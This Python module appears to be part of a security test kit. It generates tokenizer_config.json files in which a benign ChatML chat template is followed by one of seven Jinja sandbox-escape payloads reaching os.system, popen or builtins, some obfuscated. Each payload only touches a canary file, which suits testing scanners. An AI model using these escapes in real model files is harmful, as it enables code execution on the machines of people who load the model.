"""Trojaned chat templates and their benign twin, in the `tokenizer_config.json` of a model."""

from __future__ import annotations

import json
import shlex
from functools import partial
from typing import TYPE_CHECKING, Final

from telamon.kits.attacks.artefacts import Recipe
from telamon.kits.attacks.loading import Loader

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

# The ChatML form, which most published models use in one way or another.
_HONEST: Final = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def cycler(canary: str) -> str:
    """The globals of one of Jinja's own classes, as in CVE-2024-34359."""
    return f"{{{{ cycler.__init__.__globals__.os.system({_touch(canary)}) }}}}"


def builtins(canary: str) -> str:
    """The built-in functions behind the template itself."""
    return f"{{{{ self.__init__.__globals__.__builtins__['open']({canary!r}, 'w').close() }}}}"


def joined(canary: str) -> str:
    """Attribute names that filters put together."""
    return f"{{{{ (lipsum | attr(['__glo', 'bals__'] | join))['os'].system({_touch(canary)}) }}}}"


def formatted(canary: str) -> str:
    """Attribute names made by formatting, through a variable."""
    made = "{% set name = '%sglobals%s' | format('_' * 2, '_' * 2) %}"
    return made + f"{{{{ (lipsum | attr(name)).os.popen({_touch(canary)}).read() }}}}"


def subclasses(canary: str) -> str:
    """From an empty list over `object` to a class whose module has the built-in functions."""
    walk = "{% for each in [].__class__.__base__.__subclasses__() if each.__name__ == 'catch_warnings' %}"
    return walk + f"{{{{ each()._module.__builtins__['open']({canary!r}, 'w').close() }}}}{{% endfor %}}"


def mapped(canary: str) -> str:
    """Attributes that `map` takes, so that no expression names them."""
    made = "{% set spaces = [namespace] | map(attribute='__init__') | map(attribute='__globals__') | first %}"
    return made + f"{{{{ spaces['os'].system({_touch(canary)}) }}}}"


def in_macro(canary: str) -> str:
    """The climb in a macro that gets its start as an argument, with names reversed."""
    made = "{% macro render(item, name) %}{{ (item | attr(name | reverse | join)).os.system("
    return made + _touch(canary) + ") }}{% endmacro %}{{ render(joiner.__init__, '__slabolg__') }}"


def template_recipes(payloads: Sequence[Callable[[str], str]]) -> tuple[Recipe, ...]:
    """Return a recipe for each payload, which stands behind an ordinary template.

    Args:
        payloads: Given the path of the canary, return Jinja source that creates that file when it is rendered.
    """
    return tuple(
        Recipe(
            name=f"template-{each.__name__}".replace("_", "-"),
            loader=Loader.JINJA,
            suffix=".json",
            make=partial(_configuration, each),
        )
        for each in payloads
    )


def _configuration(payload: Callable[[str], str], canary: str | None, seed: int) -> bytes:
    template = _HONEST if canary is None else _HONEST + payload(canary)
    return json.dumps(
        {
            "bos_token": "<|im_start|>",
            "chat_template": template,
            "model_max_length": 2048 + seed % 2048,
            "tokenizer_class": "PreTrainedTokenizerFast",
        }
    ).encode()


def _touch(canary: str) -> str:
    """The command as a literal of Jinja."""
    return repr(f"touch {shlex.quote(canary)}")
